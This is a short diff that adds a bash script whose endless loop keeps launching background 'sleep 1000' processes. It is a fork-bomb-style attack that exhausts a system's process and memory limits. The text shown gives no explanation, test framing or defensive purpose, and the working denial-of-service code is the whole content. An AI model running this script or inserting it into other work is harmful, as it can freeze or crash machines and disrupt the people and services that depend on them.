@@ -1,0 +1,5 @@
+#!/bin/bash
+spawn() { sleep 1000 & }
+while true; do
+  spawn &
+done
